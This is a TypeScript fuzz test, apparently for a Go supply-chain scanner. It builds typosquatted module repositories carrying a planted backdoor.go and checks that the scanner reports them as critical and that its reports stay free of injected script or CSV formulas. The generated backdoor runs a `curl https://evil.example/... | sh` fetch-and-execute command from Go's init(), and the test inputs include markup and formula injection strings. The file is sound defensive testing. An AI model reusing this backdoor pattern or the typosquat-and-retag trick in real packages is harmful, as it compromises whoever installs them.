import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { findingBlocks } from '@mirrorwatch/notify/blocks/finding'
import { gatherReport } from '@mirrorwatch/notify/report/data'
import { isoWeekAt } from '@mirrorwatch/notify/report/iso-week'
import { renderReport } from '@mirrorwatch/notify/report/message'
import { findingText } from '@mirrorwatch/notify/writers/terminal'
import type { Finding } from '@mirrorwatch/store/queries/findings-list'
import { createRandom, type Random } from '@mirrorwatch/testing/random'
import { type ScannedWorld, scanWorld, type TestRuntime } from '@mirrorwatch/testing/scan-world'
import type { FileChange, RepositorySpec } from '@mirrorwatch/world/build/spec'
import { startWorld } from '@mirrorwatch/world/world'

/** Modules; set for longer runs by hand. */
const MODULES = Number(process.env['MIRRORWATCH_FUZZ_MODULES'] ?? 12)
const SEED = Number(process.env['MIRRORWATCH_FUZZ_SEED'] ?? 1)

/** Text that some column, cut, escape or parser might not bear. */
const PIECES = [
  '😀',
  '𝐀',
  '\0',
  '\\u0000',
  '\\x00\\ud83d',
  '\ufffd',
  '\u202e',
  '\u2028',
  '\u200b',
  '\ufeff',
  '\u001b[2J',
  '\r',
  '\t',
  '\\',
  "'",
  '`',
  '</script>',
  '=1+1',
  '$1',
  '{{.}}',
  '%00',
  'é',
  'a\u0301',
]

class Hostile {
  readonly #random: Random

  constructor(seed: number) {
    this.#random = createRandom(seed)
  }

  below(n: number): number {
    return this.#random.int(n)
  }

  /** Plain up to about where a line, a quote or a diff is cut, and then a crowd of strange characters. */
  text(): string {
    const plain = [0, 30, 110, 150, 195, 290, 390, 1_990, 3_900][this.below(9)] ?? 0
    let text = 'x'.repeat(plain + this.below(10))
    const strange = this.below(2) === 0 ? ['😀', '𝐀'] : PIECES
    for (let n = this.below(40); n >= 0; n--) text += strange[this.below(strange.length)]
    return text
  }

  file(): Buffer {
    const lines = Array.from({ length: 1 + this.below(60) }, () => this.text())
    const content = Buffer.from(lines.join('\n'))
    // What is no UTF-8 at all.
    if (this.below(4) === 0) content[this.below(content.length)] = 0xff
    return content
  }

  /** Letters that Go allows in file names, two UTF-16 units each among them. */
  name(): string {
    return `${'n'.repeat(this.below(3))}${'𝐀é'.repeat(1 + this.below(12))}`
  }

  /** Ten letters of which no two neighbours are equal, so that any two of them swapped are another owner. */
  owner(): string {
    let owner = ''
    while (owner.length < 10) {
      const letter = 'bcdfghjklmnpqrtvwz'[this.below(18)] ?? ''
      if (!owner.endsWith(letter)) owner += letter
    }
    return owner
  }
}

/** Returns the payload that an analysis must find among any other code. */
function payload(hostile: Hostile): string {
  const text = hostile.text().replaceAll(/[`"\\\n\r\0\ufeff]/g, '')
  return `package validator

import "os/exec"

// ${text.replaceAll(/[\u2028]/g, '')}
func init() { /* ${text} */ exec.Command("sh", "-c", "curl https://evil.example/${text} | sh; echo \\x00\\xff\\ud7ff").Run() }
`
}

interface Case {
  target: string
  lookalike: string
  specs: RepositorySpec[]
}

function makeCase(hostile: Hostile): Case {
  const owner = hostile.owner()
  const swapped = `${owner.slice(0, 4)}${owner[5]}${owner[4]}${owner.slice(6)}`
  const target = `github.com/${owner}/validator`
  const lookalike = `github.com/${swapped}/validator`
  const clean = {
    'validator.go': '// Package validator checks.\npackage validator\n\nfunc Check() bool { return true }\n',
  }
  const strange: Record<string, FileChange> = { 'README.md': hostile.file() }
  for (let n = hostile.below(6); n >= 0; n--)
    strange[`${hostile.name()}${n}.${n % 2 === 0 ? 'go' : 'txt'}`] = hostile.file()
  const publish = (module: string, files: Record<string, FileChange>): RepositorySpec => ({
    path: module,
    author: 'Somebody <somebody@example.org>',
    steps: [
      {
        do: 'commit',
        time: '2026-02-01T10:00:00Z',
        message: hostile.text().replaceAll('\0', '') || 'One',
        files: { 'go.mod': `module ${module}\n`, ...clean, ...files },
      },
      { do: 'tag', name: 'v1.0.0' },
      { do: 'cache', module, version: 'v1.0.0', at: '2026-02-01T10:00:30.5Z' },
    ],
  })
  const bad = publish(lookalike, { ...strange, 'backdoor.go': payload(hostile) })
  bad.steps.push(
    {
      do: 'commit',
      time: '2026-02-02T10:00:00Z',
      message: 'Clean',
      clear: true,
      files: { 'go.mod': `module ${lookalike}\n`, ...clean },
    },
    { do: 'tag', name: 'v1.0.0' },
  )
  return { target, lookalike, specs: [publish(target, {}), bad] }
}

suite('modules of strange text', () => {
  let scanned: ScannedWorld
  let opened: TestRuntime
  let cases: Case[]
  let findings: Map<string, Finding>

  before(async () => {
    const hostile = new Hostile(SEED)
    cases = Array.from({ length: MODULES }, () => makeCase(hostile))
    const world = await startWorld({ repositories: cases.flatMap(({ specs }) => specs) })
    scanned = await scanWorld(
      world,
      cases.map(({ target }) => target),
    )
    ;({ opened, findings } = scanned)
  })
  after(() => scanned?.[Symbol.asyncDispose]())

  test('are all found, with what their zips hide', () => {
    assert.deepEqual(opened.warned(), [])
    for (const { lookalike, target } of cases) {
      const finding = findings.get(lookalike)
      assert.equal(finding?.severity, 'critical', `${lookalike}: ${JSON.stringify(finding?.because)}`)
      assert.equal(finding?.target, target)
      const rules = finding?.signals.map(({ rule }) => rule)
      assert.ok(rules?.includes('tag-moved'), rules?.join())
    }
  })

  test('are shown with nothing in them that acts on a reader or a program', async () => {
    const { store } = opened.runtime
    const now = new Date()
    const data = await gatherReport(store.db, isoWeekAt(now, 'UTC'), 'UTC', now)
    const report = renderReport(data, null)
    const shown = {
      command: [...findings.values()]
        .flatMap((finding) => findingText(findingBlocks(finding), { colour: false, width: null }))
        .join('\n'),
      plain: report.text,
      html: report.html.replaceAll(/&#x([0-9a-f]+);/gi, (_, code: string) =>
        String.fromCodePoint(Number.parseInt(code, 16)),
      ),
      csv: report.csv.slice(1),
    }
    for (const [outlet, text] of Object.entries(shown)) {
      assert.ok(
        cases.some(({ lookalike }) => text.includes(lookalike.split('/')[1] ?? '?')),
        outlet,
      )
      assert.equal(
        /(?![\t\n\r])[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u.exec(text)?.[0].codePointAt(0),
        undefined,
        outlet,
      )
    }
    assert.ok(!/<script/i.test(report.html))
    assert.ok(!/(?:^|,)"?[=+@]/m.test(shown.csv), shown.csv)
  })
})
